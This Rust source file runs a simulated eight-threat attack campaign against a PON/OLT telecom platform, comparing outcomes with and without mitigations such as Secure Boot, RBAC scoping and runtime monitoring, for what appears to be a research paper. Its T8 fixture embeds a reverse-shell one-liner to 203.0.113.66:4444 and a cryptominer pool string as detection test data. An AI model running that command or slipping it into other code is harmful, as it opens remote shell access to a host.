//! The end-to-end attack campaign (experiment E-S1): one executable attack
//! per threat T1–T8, run twice — mitigations disabled, then enabled — so
//! the paper's qualitative claims become a measured matrix.

use genio_appsec::dast::{
    fuzz, FindingKind, Handler, HardenedTenantApp, Request, VulnerableTenantApp,
};
use genio_appsec::image::{ContainerImage, Interface, Layer};
use genio_appsec::sast::{analyze, vulnerable_sample};
use genio_appsec::yara::default_malware_rules;
use genio_hardening::osstate::OsState;
use genio_hardening::profile::all_profiles;
use genio_hardening::remediate::{harden, olt_sdn_constraints};
use genio_orchestrator::admission::{evaluate, AdmissionLevel};
use genio_orchestrator::rbac::{
    orchestrator_admin_role, orchestrator_scoped_role, Authorizer, RoleBinding,
};
use genio_orchestrator::workload::{Capability, PodSpec};
use genio_pon::activation::{ActivationController, CertificateAdmission, SerialAllowlist};
use genio_pon::attack::{FiberTap, ImpersonationOutcome, ReplayAttacker, ReplayOutcome, RogueOnu};
use genio_pon::security::GemCrypto;
use genio_pon::topology::PonTree;
use genio_runtime::events::attack_burst;
use genio_runtime::falco::{Engine, RuleSetTier};
use genio_runtime::lsm::{enforce_trace, LsmPolicy, Mode};
use genio_secureboot::bootchain::{boot, BootPolicy, ImageSigner, KeyDb, StageKind};
use genio_secureboot::tpm::Tpm;
use genio_vulnmgmt::cve::reference_corpus;
use genio_vulnmgmt::feed::TrackingPipeline;
use genio_vulnmgmt::patching::{schedule, PatchPolicy};
use genio_telemetry::Telemetry;
use genio_vulnmgmt::scanner::{scan as vuln_scan, AliasMap, PackageInventory};

/// Outcome of one attack execution.
#[derive(Debug, Clone)]
pub struct AttackOutcome {
    /// The attacker achieved the objective.
    pub succeeded: bool,
    /// The platform raised an observable signal (halt, alert, denial).
    pub detected: bool,
    /// Free-form evidence.
    pub notes: String,
}

/// One row of the campaign matrix.
#[derive(Debug, Clone)]
pub struct CampaignRow {
    /// Threat id, e.g. `T1`.
    pub threat_id: String,
    /// Attack description.
    pub attack: &'static str,
    /// Outcome with mitigations off.
    pub unmitigated: AttackOutcome,
    /// Outcome with mitigations on.
    pub mitigated: AttackOutcome,
}

/// Campaign configuration.
#[derive(Debug, Clone, Copy)]
pub struct CampaignConfig {
    /// Seed for key material.
    pub seed: u64,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        CampaignConfig { seed: 42 }
    }
}

/// The full campaign result.
#[derive(Debug, Clone)]
pub struct CampaignReport {
    /// One row per threat.
    pub rows: Vec<CampaignRow>,
}

impl CampaignReport {
    /// Renders the matrix as a text table.
    pub fn render(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "{:<4} {:<44} {:<22} {:<22}\n",
            "id", "attack", "unmitigated", "mitigated"
        ));
        for row in &self.rows {
            let fmt_outcome = |o: &AttackOutcome| {
                format!(
                    "{}{}",
                    if o.succeeded { "SUCCEEDS" } else { "blocked" },
                    if o.detected { "+detected" } else { "" }
                )
            };
            out.push_str(&format!(
                "{:<4} {:<44} {:<22} {:<22}\n",
                row.threat_id,
                row.attack,
                fmt_outcome(&row.unmitigated),
                fmt_outcome(&row.mitigated)
            ));
        }
        out
    }
}

/// Runs the whole campaign.
pub fn run_campaign(config: &CampaignConfig) -> CampaignReport {
    run_campaign_instrumented(config, &Telemetry::disabled())
}

/// [`run_campaign`] with a `core.scenario.campaign` span over the whole
/// matrix, a `core.scenario.threat` span per threat row, and counters for
/// attacks executed and mitigated-blocked outcomes.
pub fn run_campaign_instrumented(config: &CampaignConfig, telemetry: &Telemetry) -> CampaignReport {
    let _campaign = telemetry.span("core.scenario.campaign");
    // Each row is block-scoped under its own span so every threat's
    // runtime lands as a distinct trace event.
    let rows = vec![
        {
            let _s = telemetry.span("core.scenario.threat");
            t1_network_attacks(config)
        },
        {
            let _s = telemetry.span("core.scenario.threat");
            t2_code_tampering(config)
        },
        {
            let _s = telemetry.span("core.scenario.threat");
            t3_privilege_abuse_infra()
        },
        {
            let _s = telemetry.span("core.scenario.threat");
            t4_software_vulns_infra()
        },
        {
            let _s = telemetry.span("core.scenario.threat");
            t5_privilege_abuse_middleware()
        },
        {
            let _s = telemetry.span("core.scenario.threat");
            t6_software_vulns_middleware()
        },
        {
            let _s = telemetry.span("core.scenario.threat");
            t7_vulnerable_application()
        },
        {
            let _s = telemetry.span("core.scenario.threat");
            t8_malicious_application()
        },
    ];
    let attacks = telemetry.counter("core.scenario.attacks_executed");
    let blocked = telemetry.counter("core.scenario.mitigated_blocked");
    for row in &rows {
        // Each row runs the attack twice: mitigations off, then on.
        attacks.incr(2);
        if !row.mitigated.succeeded {
            blocked.incr(1);
        }
    }
    CampaignReport { rows }
}

/// T1: fiber tap eavesdropping + frame replay + rogue-ONU impersonation,
/// against cleartext/serial-trust (off) vs AES-GCM + certificate admission
/// (M3, M4).
fn t1_network_attacks(config: &CampaignConfig) -> CampaignRow {
    let seed = config.seed.to_be_bytes();

    let run = |mitigated: bool| -> AttackOutcome {
        let mut tree = PonTree::builder("olt-1/pon-0").split_ratio(8).build();
        tree.attach_onu("GENIO-0001", 500).expect("capacity");

        // --- eavesdropping + replay on the downstream.
        let mut tap = FiberTap::new();
        let mut replayer = ReplayAttacker::new();
        let (exposure, replay) = if mitigated {
            let mut olt = GemCrypto::new(&seed);
            let mut onu = GemCrypto::new(&seed);
            olt.establish_key(100, 1);
            onu.establish_key(100, 1);
            // The whole meter-reading burst is sealed with one batched AEAD
            // call and replay-checked as a burst on the ONU side; frames are
            // byte-identical to sequential `encrypt_downstream` calls.
            let payloads: Vec<Vec<u8>> = (0..10u32)
                .map(|i| format!("meter {i}").into_bytes())
                .collect();
            let payload_refs: Vec<&[u8]> = payloads.iter().map(Vec::as_slice).collect();
            let frames = olt
                .encrypt_downstream_many(100, 1, &payload_refs)
                .expect("keyed port");
            for frame in &frames {
                tap.observe(frame);
                replayer.capture(frame);
            }
            for delivered in onu.decrypt_many(&frames) {
                delivered.expect("legitimate delivery");
            }
            (
                tap.exposure_ratio().unwrap_or(0.0),
                replayer.replay_against(3, &mut onu),
            )
        } else {
            let mut onu = GemCrypto::new(&seed);
            for i in 0..10u32 {
                let frame = GemCrypto::cleartext_downstream(
                    100,
                    1,
                    i as u64,
                    format!("meter {i}").as_bytes(),
                );
                tap.observe(&frame);
                replayer.capture(&frame);
            }
            (
                tap.exposure_ratio().unwrap_or(0.0),
                replayer.replay_against(3, &mut onu),
            )
        };

        // --- impersonation at activation.
        let mut controller = if mitigated {
            ActivationController::new(Box::new(CertificateAdmission::new(
                |_serial: &str, evidence: &[u8]| evidence == b"genuine-device-chain",
            )))
        } else {
            let mut allow = SerialAllowlist::new();
            allow.allow("GENIO-0001");
            ActivationController::new(Box::new(allow))
        };
        let rogue = RogueOnu::cloning("GENIO-0001").with_forged_evidence(b"forged".to_vec());
        let impersonation = rogue.attempt(&mut controller, &mut tree);

        let eavesdropped = exposure > 0.0;
        let replayed = replay == ReplayOutcome::Accepted;
        let impersonated = matches!(impersonation, ImpersonationOutcome::Admitted(_));
        AttackOutcome {
            succeeded: eavesdropped || replayed || impersonated,
            detected: mitigated
                && (replay == ReplayOutcome::RejectedReplay
                    || matches!(impersonation, ImpersonationOutcome::Denied(_))),
            notes: format!("exposure={exposure:.2} replay={replay:?} impersonation={impersonated}"),
        }
    };

    CampaignRow {
        threat_id: "T1".into(),
        attack: "fiber tap + replay + ONU impersonation",
        unmitigated: run(false),
        mitigated: run(true),
    }
}

/// T2: backdoored kernel image in the boot chain, against measured+enforced
/// Secure Boot (M5) vs nothing.
fn t2_code_tampering(config: &CampaignConfig) -> CampaignRow {
    let seed = config.seed.to_be_bytes();

    let run = |mitigated: bool| -> AttackOutcome {
        let mut vendor = ImageSigner::from_seed(&[&seed[..], b"vendor"].concat());
        let mut owner = ImageSigner::from_seed(&[&seed[..], b"mok"].concat());
        let mut keys = KeyDb::new();
        keys.trust_vendor(vendor.public());
        keys.enroll_mok(owner.public());
        let mut stages = vec![
            vendor
                .sign(StageKind::Shim, b"shim-15.7")
                .expect("capacity"),
            owner.sign(StageKind::Grub, b"grub-2.06").expect("capacity"),
            owner
                .sign(StageKind::Kernel, b"onl-kernel")
                .expect("capacity"),
        ];
        // The attack: swap the kernel image.
        stages[2].content = b"onl-kernel-BACKDOORED".to_vec();

        let policy = if mitigated {
            BootPolicy::default()
        } else {
            BootPolicy {
                enforce_signatures: false,
                measure: false,
            }
        };
        let mut tpm = Tpm::new(&seed);
        let report = boot(&stages, &keys, &policy, &mut tpm);
        AttackOutcome {
            succeeded: report.completed,
            detected: report.halted_at.is_some() || report.event_log.iter().any(|e| !e.verified),
            notes: format!(
                "completed={} halted_at={:?}",
                report.completed, report.halted_at
            ),
        }
    };

    CampaignRow {
        threat_id: "T2".into(),
        attack: "backdoored kernel in the boot chain",
        unmitigated: run(false),
        mitigated: run(true),
    }
}

/// T3: privilege escalation through OS misconfiguration (telnet, root SSH,
/// world-readable shadow), against factory ONL vs hardened ONL (M1, M2).
fn t3_privilege_abuse_infra() -> CampaignRow {
    let exploitable = |os: &OsState| -> Vec<&'static str> {
        let mut holes = Vec::new();
        if os.service_active("telnet") {
            holes.push("telnet");
        }
        if os.sshd.get("PermitRootLogin").map(String::as_str) == Some("yes") {
            holes.push("root-ssh");
        }
        if os
            .files
            .get("/etc/shadow")
            .map(|f| f.mode > 0o640)
            .unwrap_or(false)
        {
            holes.push("shadow-readable");
        }
        holes
    };

    let factory = OsState::onl_factory();
    let factory_holes = exploitable(&factory);

    let mut hardened = OsState::onl_factory();
    let outcome = harden(&mut hardened, &all_profiles(), &olt_sdn_constraints());
    let hardened_holes = exploitable(&hardened);

    CampaignRow {
        threat_id: "T3".into(),
        attack: "privilege escalation via OS misconfiguration",
        unmitigated: AttackOutcome {
            succeeded: !factory_holes.is_empty(),
            detected: false,
            notes: format!("holes: {factory_holes:?}"),
        },
        mitigated: AttackOutcome {
            succeeded: !hardened_holes.is_empty(),
            detected: !outcome.applied.is_empty(),
            notes: format!("holes after hardening: {hardened_holes:?}"),
        },
    }
}

/// T4: exploitation of a known kernel LPE on the OLT, against no scanning
/// vs tuned scanning + patching (M8).
fn t4_software_vulns_infra() -> CampaignRow {
    let db = reference_corpus();
    let inventory = PackageInventory::onl_olt();
    let pipeline = TrackingPipeline::genio_default();
    let policy = PatchPolicy::default();
    // The kernel LPE publishes on day 205; the attacker strikes on day 260.
    let attack_day = 260u64;
    let kernel_cve = db.get("CVE-2025-0108").expect("in corpus");

    // Unmitigated: the vendor-prefixed kernel package is invisible to the
    // default scanner, so the CVE is never associated with the host and no
    // patch is ever scheduled.
    let untuned = vuln_scan(&inventory, &db, &AliasMap::none());
    let unmitigated_sees_it = untuned.iter().any(|f| f.cve_id == "CVE-2025-0108");

    // Mitigated: tuned aliases surface the finding; the patch pipeline
    // schedules the fix before the attack day (exploited → emergency).
    let tuned = vuln_scan(&inventory, &db, &AliasMap::onl_tuned());
    let mitigated_sees_it = tuned.iter().any(|f| f.cve_id == "CVE-2025-0108");
    let timeline = schedule(kernel_cve, &pipeline, &policy);

    CampaignRow {
        threat_id: "T4".into(),
        attack: "kernel LPE exploit on unpatched OLT",
        unmitigated: AttackOutcome {
            succeeded: !unmitigated_sees_it, // never patched → exploitable
            detected: false,
            notes: format!("default scan findings: {}", untuned.len()),
        },
        mitigated: AttackOutcome {
            succeeded: timeline.patched_day > attack_day,
            detected: mitigated_sees_it,
            notes: format!(
                "patched day {} vs attack day {attack_day}",
                timeline.patched_day
            ),
        },
    }
}

/// T5: a tenant service account abusing an over-broad role to reach another
/// tenant's secrets, against wildcard RBAC vs scoped roles (M10).
fn t5_privilege_abuse_middleware() -> CampaignRow {
    let attempt = |authz: &Authorizer| {
        authz.allowed("tenant-a-deployer", "get", "secrets", Some("tenant-b"))
            || authz.allowed("tenant-a-deployer", "delete", "pods", Some("tenant-b"))
    };

    // Unmitigated: insecure default — a cluster-wide wildcard binding.
    let mut lax = Authorizer::new();
    lax.add_role(orchestrator_admin_role());
    lax.bind(RoleBinding::new(
        "tenant-a-deployer",
        "orchestrator-admin",
        None,
    ));
    let lax_success = attempt(&lax);

    // Mitigated: scoped role, namespaced binding.
    let mut strict = Authorizer::new();
    strict.add_role(orchestrator_scoped_role());
    strict.bind(RoleBinding::new(
        "tenant-a-deployer",
        "orchestrator-deployer",
        Some("tenant-a"),
    ));
    let strict_success = attempt(&strict);

    CampaignRow {
        threat_id: "T5".into(),
        attack: "cross-tenant access via over-broad RBAC",
        unmitigated: AttackOutcome {
            succeeded: lax_success,
            detected: false,
            notes: "wildcard cluster-wide binding".into(),
        },
        mitigated: AttackOutcome {
            succeeded: strict_success,
            detected: !strict_success, // the authorization denial is logged
            notes: "scoped role, namespaced binding".into(),
        },
    }
}

/// T6: exploitation of a containerd CVE in the middleware, against no
/// tracking vs the feed/KBOM/patching pipeline (M12).
fn t6_software_vulns_middleware() -> CampaignRow {
    let db = reference_corpus();
    let pipeline = TrackingPipeline::genio_default();
    let policy = PatchPolicy::default();
    let cve = db.get("CVE-2025-0103").expect("in corpus"); // containerd, day 75
    let attack_day = 120u64;
    let timeline = schedule(cve, &pipeline, &policy);

    CampaignRow {
        threat_id: "T6".into(),
        attack: "containerd escape exploited in middleware",
        unmitigated: AttackOutcome {
            // No tracking: still unpatched at the attack day.
            succeeded: true,
            detected: false,
            notes: "no vulnerability tracking in place".into(),
        },
        mitigated: AttackOutcome {
            succeeded: timeline.patched_day > attack_day,
            detected: true, // the advisory was ingested and triaged
            notes: format!(
                "aware day {} via {}, patched day {}",
                timeline.awareness_day, timeline.channel, timeline.patched_day
            ),
        },
    }
}

/// T7: exploiting a vulnerable tenant application (SQLi + auth bypass),
/// against no pre-deployment testing vs the SAST+DAST gate (M13–M15).
fn t7_vulnerable_application() -> CampaignRow {
    // The attack itself: reach the admin panel without credentials.
    let exploit = |app: &dyn Handler| {
        let response = app.handle(&Request {
            path: "/admin".into(),
            params: Default::default(),
            authenticated: false,
        });
        (200..300).contains(&response.status)
    };

    // Unmitigated: the vulnerable app ships as-is.
    let unmitigated_success = exploit(&VulnerableTenantApp);

    // Mitigated: the security gate runs SAST and DAST; the vulnerable build
    // is rejected, so the tenant deploys the fixed build.
    let sast_findings = analyze(&vulnerable_sample());
    let dast_report = fuzz(&VulnerableTenantApp::spec(), &VulnerableTenantApp);
    let gate_blocks = !sast_findings.is_empty()
        || dast_report
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::AuthBypass);
    let deployed_success = if gate_blocks {
        exploit(&HardenedTenantApp)
    } else {
        unmitigated_success
    };

    CampaignRow {
        threat_id: "T7".into(),
        attack: "unauthenticated admin access on tenant app",
        unmitigated: AttackOutcome {
            succeeded: unmitigated_success,
            detected: false,
            notes: "no pre-deployment testing".into(),
        },
        mitigated: AttackOutcome {
            succeeded: deployed_success,
            detected: gate_blocks,
            notes: format!(
                "sast findings {} / dast findings {}",
                sast_findings.len(),
                dast_report.findings.len()
            ),
        },
    }
}

/// T8: a deliberately malicious image (cryptominer + reverse shell +
/// CAP_SYS_ADMIN), against no controls vs the M16–M18 stack.
fn t8_malicious_application() -> CampaignRow {
    let image = ContainerImage::new("registry.genio/totally-legit:1.0", Interface::Rest).layer(
        Layer::new()
            .file("/app/server", b"plausible web server")
            .file(
                "/opt/.cache/worker",
                b"donate-level=1 stratum+tcp://pool:3333",
            )
            .file(
                "/opt/.cache/fallback.sh",
                b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
            ),
    );
    let mut pod = PodSpec::new("totally-legit", "tenant-evil", &image.reference);
    pod.containers[0]
        .capabilities
        .push(Capability::CAP_SYS_ADMIN);

    // Unmitigated: image admitted, pod privileged, behaviour unobserved.
    let unmitigated = AttackOutcome {
        succeeded: true,
        detected: false,
        notes: "no registry scanning, privileged admission, no runtime monitoring".into(),
    };

    // Mitigated: three independent layers.
    let yara_hits = default_malware_rules().scan_image(&image);
    let admission_violations = evaluate(&pod, AdmissionLevel::Restricted);
    let policy = LsmPolicy::tenant_default("tenant-evil", Mode::Enforce);
    let burst = attack_burst("tenant-evil", 0);
    let (_, _, blocked) = enforce_trace(&policy, &burst);
    let falco = Engine::with_tier(RuleSetTier::Default).expect("bundled rules parse");
    let alerts = falco.process_all(&burst);

    let mitigated = AttackOutcome {
        succeeded: yara_hits.is_empty() && admission_violations.is_empty() && blocked == 0,
        detected: !yara_hits.is_empty() || !admission_violations.is_empty() || !alerts.is_empty(),
        notes: format!(
            "yara hits {} / admission violations {} / lsm blocked {} / falco alerts {}",
            yara_hits.len(),
            admission_violations.len(),
            blocked,
            alerts.len()
        ),
    };

    CampaignRow {
        threat_id: "T8".into(),
        attack: "malicious image: miner + reverse shell + CAP_SYS_ADMIN",
        unmitigated,
        mitigated,
    }
}

/// Scale knobs for the fleet-level T1 matrix (the functional face of
/// experiment E-S2). Separate from [`CampaignConfig`] on purpose: the
/// single-tree campaign's shape is pinned by tier-1 tests.
#[derive(Debug, Clone, Copy)]
pub struct FleetScenarioConfig {
    /// PON trees across the fleet.
    pub trees: u32,
    /// Subscriber ONUs per tree.
    pub onus_per_tree: u32,
    /// TDMA cycles simulated.
    pub cycles: u32,
    /// Seed for the fleet timeline.
    pub seed: u64,
}

impl Default for FleetScenarioConfig {
    fn default() -> Self {
        FleetScenarioConfig {
            trees: 16,
            onus_per_tree: 16,
            cycles: 8,
            seed: 42,
        }
    }
}

/// One T1 attack vector measured at fleet scale.
#[derive(Debug, Clone)]
pub struct FleetT1Row {
    /// Attack vector name.
    pub vector: &'static str,
    /// Outcome with M3/M4 off.
    pub unmitigated: AttackOutcome,
    /// Outcome with M3/M4 on.
    pub mitigated: AttackOutcome,
}

/// Runs the T1 attack set (eavesdropping, replay, impersonation) over
/// the whole simulated fleet instead of one tree, with mitigations off
/// and then on — `run_campaign`'s T1 row, at the scale the paper's
/// operator actually runs.
pub fn run_fleet_t1(config: &FleetScenarioConfig) -> Vec<FleetT1Row> {
    run_fleet_t1_instrumented(config, &Telemetry::disabled())
}

/// [`run_fleet_t1`] under a `core.scenario.fleet_t1` span; the engine's
/// own `pon.fleet.run` span, with each shard's `pon.shard.step` and its
/// `pon.shard.activation` / `pon.shard.cycles` phases, nests inside it.
pub fn run_fleet_t1_instrumented(
    config: &FleetScenarioConfig,
    telemetry: &Telemetry,
) -> Vec<FleetT1Row> {
    let _span = telemetry.span("core.scenario.fleet_t1");
    let base = genio_pon::engine::FleetSimConfig {
        trees: config.trees,
        onus_per_tree: config.onus_per_tree,
        cycles: config.cycles,
        seed: config.seed,
        replay_every: 4,
        rogue_per_tree: true,
        greedy_every: 0,
        encrypt: false,
        certificate_admission: false,
    };
    let open = genio_pon::engine::run_with(
        &base,
        &genio_pon::engine::EngineOptions::default(),
        telemetry,
    );
    let hardened = genio_pon::engine::run_with(
        &genio_pon::engine::FleetSimConfig {
            encrypt: true,
            certificate_admission: true,
            ..base
        },
        &genio_pon::engine::EngineOptions::default(),
        telemetry,
    );
    let (ov, hv) = (open.stats.verdicts(), hardened.stats.verdicts());
    vec![
        FleetT1Row {
            vector: "fiber tap reads tenant payloads (fleet)",
            unmitigated: AttackOutcome {
                succeeded: ov.eavesdropping_succeeded,
                detected: false,
                notes: format!(
                    "{} of {} frames readable in clear",
                    open.stats.attacker_readable, open.stats.frames_sent
                ),
            },
            mitigated: AttackOutcome {
                succeeded: hv.eavesdropping_succeeded,
                detected: true,
                notes: format!(
                    "0 of {} frames readable under GEM encryption",
                    hardened.stats.frames_sent
                ),
            },
        },
        FleetT1Row {
            vector: "captured-frame replay (fleet)",
            unmitigated: AttackOutcome {
                succeeded: ov.replay_succeeded,
                detected: false,
                notes: format!(
                    "{} of {} replays accepted",
                    open.stats.replays_accepted, open.stats.replays_attempted
                ),
            },
            mitigated: AttackOutcome {
                succeeded: hv.replay_succeeded,
                detected: true,
                notes: format!(
                    "{} replays rejected by the anti-replay window",
                    hardened.stats.replays_attempted
                ),
            },
        },
        FleetT1Row {
            vector: "rogue ONU impersonation (fleet)",
            unmitigated: AttackOutcome {
                succeeded: ov.impersonation_succeeded,
                detected: false,
                notes: format!(
                    "{} of {} rogues admitted via serial allowlist",
                    open.stats.rogues_admitted, open.stats.rogues_attempted
                ),
            },
            mitigated: AttackOutcome {
                succeeded: hv.impersonation_succeeded,
                detected: true,
                notes: format!(
                    "{} rogues denied by certificate admission",
                    hardened.stats.rogues_attempted
                ),
            },
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn report() -> CampaignReport {
        run_campaign(&CampaignConfig::default())
    }

    #[test]
    fn fleet_t1_matrix_matches_the_single_tree_campaign_verdicts() {
        let rows = run_fleet_t1(&FleetScenarioConfig::default());
        assert_eq!(rows.len(), 3);
        for row in &rows {
            assert!(
                row.unmitigated.succeeded,
                "{} should succeed unmitigated",
                row.vector
            );
            assert!(
                !row.mitigated.succeeded,
                "{} should be blocked when mitigated",
                row.vector
            );
            assert!(row.mitigated.detected);
            assert!(!row.unmitigated.notes.is_empty());
        }
    }

    #[test]
    fn fleet_t1_is_deterministic_and_spanned() {
        let cfg = FleetScenarioConfig {
            trees: 4,
            onus_per_tree: 6,
            cycles: 4,
            seed: 7,
        };
        let telemetry = Telemetry::enabled();
        let a = run_fleet_t1_instrumented(&cfg, &telemetry);
        let b = run_fleet_t1(&cfg);
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.vector, y.vector);
            assert_eq!(x.unmitigated.notes, y.unmitigated.notes);
            assert_eq!(x.mitigated.notes, y.mitigated.notes);
        }
        let snapshot = telemetry.snapshot();
        assert!(snapshot.counter("pon.fleet.events").unwrap_or(0) > 0);
    }

    #[test]
    fn campaign_has_one_row_per_threat() {
        let r = report();
        assert_eq!(r.rows.len(), 8);
        let ids: Vec<&str> = r.rows.iter().map(|row| row.threat_id.as_str()).collect();
        assert_eq!(ids, vec!["T1", "T2", "T3", "T4", "T5", "T6", "T7", "T8"]);
    }

    #[test]
    fn every_attack_succeeds_unmitigated() {
        for row in report().rows {
            assert!(
                row.unmitigated.succeeded,
                "{} should succeed unmitigated",
                row.threat_id
            );
            assert!(
                !row.unmitigated.detected,
                "{} should be invisible unmitigated",
                row.threat_id
            );
        }
    }

    #[test]
    fn every_attack_is_stopped_and_detected_mitigated() {
        for row in report().rows {
            assert!(
                !row.mitigated.succeeded,
                "{}: {}",
                row.threat_id, row.mitigated.notes
            );
            assert!(
                row.mitigated.detected,
                "{}: {}",
                row.threat_id, row.mitigated.notes
            );
        }
    }

    #[test]
    fn render_contains_all_rows() {
        let s = report().render();
        for t in 1..=8 {
            assert!(s.contains(&format!("T{t}")));
        }
        assert!(s.contains("SUCCEEDS"));
        assert!(s.contains("blocked"));
    }

    #[test]
    fn campaign_is_deterministic() {
        let a = report().render();
        let b = report().render();
        assert_eq!(a, b);
    }
}
